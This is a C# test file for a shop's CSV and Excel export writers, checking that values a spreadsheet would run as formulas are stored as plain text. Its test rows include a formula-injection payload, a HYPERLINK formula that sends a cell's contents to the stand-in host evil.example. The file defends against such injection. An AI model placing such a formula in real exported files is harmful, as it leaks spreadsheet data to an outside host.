using System.Text;
using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Spreadsheet;
using Marketplace.Web.Infrastructure.Files;

namespace Marketplace.Web.Tests.Infrastructure.Files;

/// <summary>The shop's one CSV writer and one workbook writer, read back as a spreadsheet would read them.</summary>
public class SpreadsheetFilesTests
{
    private static readonly object?[][] Rows =
    [
        ["enterprise", "gross_won"],
        ["=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"Click me\")", 12_000L],
        ["+1-2", 3L],
        ["@SUM(A1)", 4L],
        ["-10", 5L],
        ["\tTab", 6L],
        ["쉼표, \"따옴표\"", 7_000_000L],
    ];

    [Fact]
    public void Csv_text_that_a_spreadsheet_would_run_as_a_formula_is_written_as_text()
    {
        var bytes = CsvFile.Write(Rows);
        Assert.Equal(Encoding.UTF8.GetPreamble(), bytes[..3]);
        using var csv = CsvHelper.CsvReader.FromText(Encoding.UTF8.GetString(bytes[3..]), new CsvHelper.CsvReaderOptions { Separator = ',', HasHeader = true });
        var read = new List<(string Text, string Amount)>();
        while (csv.Read()) read.Add((csv.GetString(0), csv.GetString(1)));

        // Each possible formula arrives with Excel's "this is text" mark in front; the rest as written.
        Assert.Equal("'=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"Click me\")", read[0].Text);
        Assert.Equal(["'+1-2", "'@SUM(A1)", "'-10", "'\tTab"], read.Skip(1).Take(4).Select(r => r.Text));
        Assert.Equal(("쉼표, \"따옴표\"", "7000000"), read[5]);
    }

    [Fact]
    public void A_workbook_keeps_formulas_as_text_and_numbers_as_numbers()
    {
        using var document = SpreadsheetDocument.Open(new MemoryStream(XlsxFile.Write("2026년 판매/정산?", Rows, new HashSet<int> { 0 })), false);
        var part = document.WorkbookPart!;
        var sheet = Assert.Single(part.Workbook.Sheets!.Elements<Sheet>());
        Assert.Equal("2026년 판매 정산", sheet.Name!.Value);
        var cells = ((WorksheetPart)part.GetPartById(sheet.Id!)).Worksheet.Descendants<Cell>().ToDictionary(c => c.CellReference!.Value!);
        Assert.Null(cells["A2"].CellFormula);
        Assert.Equal(CellValues.InlineString, cells["A2"].DataType!.Value);
        Assert.StartsWith("=HYPERLINK", cells["A2"].InnerText);
        Assert.Equal(CellValues.Number, cells["B7"].DataType!.Value);
        Assert.Equal("7000000", cells["B7"].CellValue!.Text);
    }
}
